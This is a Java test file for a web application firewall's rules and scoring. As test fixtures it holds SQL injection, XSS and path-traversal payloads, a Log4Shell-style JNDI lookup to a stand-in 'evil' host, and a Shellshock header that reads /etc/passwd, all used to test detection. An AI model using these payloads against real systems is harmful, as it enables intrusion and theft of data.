package dev.strata.proxy.waf;

import static dev.strata.proxy.waf.TestRequests.request;
import static org.assertj.core.api.Assertions.assertThat;

import dev.strata.config.BuiltInWafRules;
import dev.strata.config.WafConfig;
import dev.strata.config.WafRuleConfig;
import io.undertow.server.HttpServerExchange;
import java.net.InetAddress;
import java.net.UnknownHostException;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The WAF's judgement of requests as Undertow hands them over: networks, each protocol check, the
 * built-in signatures against attacks and against ordinary requests, anomaly arithmetic, detect
 * mode, disabled rules, and the match budget.
 */
class WafTest {
    private static final InetAddress CLIENT = address("198.51.100.7");

    private static InetAddress address(String literal) {
        try {
            return InetAddress.getByName(literal);
        } catch (UnknownHostException e) {
            throw new IllegalStateException(e);
        }
    }

    private static WafConfig enabled() {
        return new WafConfig(true, List.of(), List.of());
    }

    private static WafConfig with(
            String mode,
            int threshold,
            List<String> disabled,
            List<WafRuleConfig> rules,
            List<String> allow,
            List<String> deny) {
        return new WafConfig(true, mode, allow, deny, WafConfig.DEFAULT_ALLOWED_METHODS, threshold, disabled, rules);
    }

    private static WafVerdict judge(Waf waf, HttpServerExchange exchange) {
        return waf.check(exchange, CLIENT, exchange.getRequestURI());
    }

    private static WafVerdict judge(String method, String target, String... headers) {
        return judge(Waf.compile(enabled()), request(method, target, headers));
    }

    private static List<String> rules(String method, String target, String... headers) {
        return judge(method, target, headers).rules();
    }

    @Test
    void ordinaryRequestsPass() {
        for (String target : List.of(
                "/",
                "/css/site.css",
                "/img/logo%20v2.png",
                "/search?q=rock+and+roll&page=2",
                "/search?q=caf%E9",
                "/search?q=O%27Brien",
                "/a/b.c/d..e/f",
                "/docs/select-union-guide.html",
                "/api?sort=name&order=desc&filter=price%3C100",
                "/products?tags=a%2Cb&ref=email",
                "/download/report..pdf")) {
            assertThat(judge("GET", target, "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0"))
                    .as(target)
                    .isEqualTo(WafVerdict.PASS);
        }
        assertThat(judge("POST", "/form", "Content-Length", "12")).isEqualTo(WafVerdict.PASS);
        assertThat(judge("GET", "/", "Content-Length", "0")).isEqualTo(WafVerdict.PASS);
        assertThat(judge("PUT", "/x", "Transfer-Encoding", "chunked")).isEqualTo(WafVerdict.PASS);
    }

    @Test
    void eachProtocolCheckRefusesAlone() {
        assertThat(rules("GET", "/a%00.css")).containsExactly("protocol.nul-byte");
        assertThat(rules("GET", "/a%2500.css")).as("twice encoded").containsExactly("protocol.nul-byte");
        assertThat(rules("GET", "/a?x=%00")).containsExactly("protocol.nul-byte");
        assertThat(rules("GET", "/a", "X-Note", "a\0b")).containsExactly("protocol.nul-byte");
        for (String target : List.of(
                "/a/../etc/passwd",
                "/a/%2e%2e/b",
                "/a/.%2e/b",
                "/a/..%2fb",
                "/a/..%5cb",
                "/a/%252e%252e/b",
                "/..",
                "/a/..;/b")) {
            assertThat(rules("GET", target)).as(target).containsExactly("protocol.path-traversal");
        }
        assertThat(rules("GET", "/%c0%ae%c0%ae/x")).containsExactly("protocol.invalid-encoding");
        assertThat(rules("GET", "/a?q=%e0%80%ae")).containsExactly("protocol.invalid-encoding");
        assertThat(judge("GET", "/a?q=%zz"))
                .as("a malformed escape: Undertow answers 400 before the WAF")
                .isEqualTo(WafVerdict.PASS);
        assertThat(rules("TRACE", "/")).containsExactly("protocol.method");
        assertThat(rules("PROPFIND", "/")).containsExactly("protocol.method");
        assertThat(rules("get", "/")).as("methods are case-sensitive").containsExactly("protocol.method");
        assertThat(rules("GET", "/", "Content-Length", "5")).containsExactly("protocol.body-on-get");
        assertThat(rules("HEAD", "/", "Transfer-Encoding", "chunked")).containsExactly("protocol.body-on-get");
        assertThat(rules("POST", "/", "Transfer-Encoding", "gzip")).containsExactly("protocol.transfer-encoding");
        assertThat(rules("POST", "/", "Transfer-Encoding", "gzip, chunked"))
                .containsExactly("protocol.transfer-encoding");
        assertThat(judge("GET", "/a/../b").kind()).isEqualTo(WafVerdict.Kind.PROTOCOL);
        assertThat(judge("GET", "/a/../b").enforced()).isTrue();
    }

    @Test
    void theBuiltInSignaturesCatchTheirAttacks() {
        assertThat(rules("GET", "/p?id=1%20UNION%20SELECT%20password%20FROM%20users"))
                .contains("sqli.union-select");
        assertThat(rules("GET", "/p?id=1+union/**/all/**/select+1")).contains("sqli.union-select");
        assertThat(rules("GET", "/p?user=admin%27%20or%20%271%27%3D%271")).contains("sqli.tautology");
        assertThat(rules("GET", "/p?id=1%20OR%201%3D1")).contains("sqli.tautology");
        assertThat(rules("GET", "/p?id=1;DROP%20TABLE%20users")).contains("sqli.stacked-query");
        assertThat(rules("GET", "/p?id=1%20AND%20SLEEP(5)")).contains("sqli.time-based");
        assertThat(rules("GET", "/p?id=1;waitfor%20delay%20%270:0:5%27")).contains("sqli.time-based");
        assertThat(rules("GET", "/p", "Cookie", "session=1' UNION SELECT 1--")).contains("sqli.union-select");
        assertThat(rules("GET", "/p?q=%3Cscript%3Ealert(1)%3C/script%3E")).contains("xss.script-tag");
        assertThat(rules("GET", "/p?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"))
                .containsExactly("xss.event-handler", "xss.html-tag");
        assertThat(rules("GET", "/p?next=javascript:alert(1)")).contains("xss.script-uri");
        assertThat(rules("GET", "/p?q=%3Ciframe%20src%3D//evil%3E")).contains("xss.dangerous-tag");
        assertThat(rules("GET", "/p?file=../../etc/passwd")).containsExactly("lfi.traversal", "lfi.system-file");
        assertThat(rules("GET", "/etc/passwd")).containsExactly("lfi.system-file");
        assertThat(rules("GET", "/.git/config")).containsExactly("lfi.sensitive-file");
        assertThat(rules("GET", "/.env")).containsExactly("lfi.sensitive-file");
        assertThat(rules("GET", "/", "X-Api-Version", "${jndi:ldap://evil/a}")).containsExactly("rce.jndi");
        assertThat(rules("GET", "/", "Referer", "() { :; }; /bin/cat /etc/passwd"))
                .containsExactly("rce.shellshock");
        assertThat(rules("GET", "/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"))
                .containsExactly("scanner.user-agent");
        assertThat(rules("GET", "/", "User-Agent", "Mozilla/5.00 (Nikto/2.1.6)"))
                .containsExactly("scanner.user-agent");
    }

    @Test
    void weakSignsAddUpToTheThreshold() {
        // sqli.comment (3) alone stays under 5; with xss.html-tag (2) it reaches 5.
        assertThat(judge("GET", "/p?name=x%27--")).isEqualTo(WafVerdict.PASS);
        assertThat(judge("GET", "/p?q=%3Cb%3Ebold%3C/b%3E")).isEqualTo(WafVerdict.PASS);
        WafVerdict both = judge("GET", "/p?name=x%27--&q=%3Cb%3E");
        assertThat(both.kind()).isEqualTo(WafVerdict.Kind.ANOMALY);
        assertThat(both.rules()).containsExactly("sqli.comment", "xss.html-tag");
        assertThat(both.score()).isEqualTo(5);
        assertThat(both.reason()).isEqualTo("sqli.comment, xss.html-tag; anomaly score 5 >= 5");
    }

    @Test
    void operatorRulesScoreWithTheThreshold() {
        List<WafRuleConfig> rules = List.of(
                new WafRuleConfig("two", "", List.of("path"), "/two", 2),
                new WafRuleConfig("three", "", List.of("header:x-flag"), "(?i)^on$", 3),
                new WafRuleConfig("method", "", List.of("method"), "^DELETE$", 4));
        Waf waf = Waf.compile(with("block", 5, List.of(), rules, List.of(), List.of()));

        assertThat(judge(waf, request("GET", "/two"))).isEqualTo(WafVerdict.PASS);
        assertThat(judge(waf, request("GET", "/x", "X-Flag", "ON"))).isEqualTo(WafVerdict.PASS);
        WafVerdict five = judge(waf, request("GET", "/two", "X-Flag", "On"));
        assertThat(five.rules()).containsExactly("two", "three");
        assertThat(five.score()).isEqualTo(5);
        assertThat(judge(waf, request("DELETE", "/two")).score()).isEqualTo(6);

        Waf strict = Waf.compile(with("block", 2, List.of(), rules, List.of(), List.of()));
        assertThat(judge(strict, request("GET", "/two")).rules()).containsExactly("two");
        Waf lax = Waf.compile(with("block", 10, List.of(), rules, List.of(), List.of()));
        assertThat(judge(lax, request("DELETE", "/two", "X-Flag", "on"))).isEqualTo(WafVerdict.PASS);
    }

    @Test
    void detectModeObjectsButNeverEnforcesExceptForDeniedNetworks() {
        Waf waf = Waf.compile(with("detect", 5, List.of(), List.of(), List.of(), List.of("192.0.2.0/24")));

        WafVerdict attack = judge(waf, request("GET", "/p?q=%3Cscript%3E"));
        assertThat(attack.objected()).isTrue();
        assertThat(attack.enforced()).isFalse();
        assertThat(judge(waf, request("GET", "/a/../b")).enforced()).isFalse();
        assertThat(waf.check(request("GET", "/"), address("192.0.2.9"), "/").enforced())
                .isTrue();
    }

    @Test
    void disabledRulesAreSkipped() {
        Waf waf = Waf.compile(with(
                "block", 5, List.of("protocol.path-traversal", "xss.script-tag"), List.of(), List.of(), List.of()));

        assertThat(judge(waf, request("GET", "/a/../b"))).isEqualTo(WafVerdict.PASS);
        assertThat(judge(waf, request("GET", "/p?q=%3Cscript%3E"))).isEqualTo(WafVerdict.PASS);
        assertThat(waf.ruleIds())
                .doesNotContain("protocol.path-traversal", "xss.script-tag")
                .contains("sqli.tautology");
    }

    @Test
    void theLongestPrefixOfAllowAndDenyDecides() {
        Waf waf = Waf.compile(with(
                "block",
                5,
                List.of(),
                List.of(),
                List.of("10.1.2.3/32", "2001:db8:1::/48"),
                List.of("10.0.0.0/8", "2001:db8::/32", "203.0.113.5/32")));
        HttpServerExchange attack = request("GET", "/p?q=%3Cscript%3E");

        assertThat(waf.check(attack, address("10.9.9.9"), "/p").rules()).containsExactly(Waf.DENY_RULE);
        assertThat(waf.check(attack, address("10.1.2.3"), "/p"))
                .as("allowed: skips every rule")
                .isEqualTo(WafVerdict.PASS);
        assertThat(waf.check(attack, address("2001:db8:1::9"), "/p")).isEqualTo(WafVerdict.PASS);
        assertThat(waf.check(attack, address("2001:db8:2::9"), "/p").rules()).containsExactly(Waf.DENY_RULE);
        assertThat(waf.check(attack, address("::ffff:203.0.113.5"), "/p").rules())
                .as("IPv4-mapped")
                .containsExactly(Waf.DENY_RULE);
        assertThat(waf.check(attack, address("198.51.100.1"), "/p").rules())
                .containsExactly("xss.script-tag", "xss.html-tag");

        Waf tie = Waf.compile(with("block", 5, List.of(), List.of(), List.of("10.0.0.0/8"), List.of("10.0.0.0/8")));
        assertThat(tie.check(request("GET", "/"), address("10.0.0.1"), "/").rules())
                .containsExactly(Waf.DENY_RULE);
    }

    @Test
    void aPatternThatBacktracksRunsOutOfBudgetAndCountsAsFound() {
        Waf waf = Waf.compile(with(
                "block",
                5,
                List.of(),
                List.of(new WafRuleConfig("catastrophic", "", List.of("query"), "^(a+)+$", 5)),
                List.of(),
                List.of()));
        char[] as = new char[4000];
        Arrays.fill(as, 'a');

        long started = System.nanoTime();
        WafVerdict verdict = judge(waf, request("GET", "/p?" + new String(as) + "!"));

        assertThat(verdict.rules()).containsExactly("catastrophic");
        assertThat(System.nanoTime() - started).as("bounded, not exponential").isLessThan(5_000_000_000L);
        assertThat(judge(waf, request("GET", "/p?aaaa")))
                .as("a short input matches for real")
                .isNotEqualTo(WafVerdict.PASS);
        assertThat(judge(waf, request("GET", "/p?b"))).isEqualTo(WafVerdict.PASS);
    }

    @Test
    void offJudgesNothingAndEveryBuiltInRuleIsKnown() {
        assertThat(Waf.compile(WafConfig.defaults())).isSameAs(Waf.OFF);
        assertThat(Waf.OFF.enabled()).isFalse();
        assertThat(Waf.builtInRuleIds()).first().isEqualTo(Waf.DENY_RULE);
        assertThat(Waf.builtInRuleIds()).containsAll(BuiltInWafRules.ids());
        assertThat(Waf.compile(enabled()).ruleIds()).isEqualTo(Waf.builtInRuleIds());
    }
}
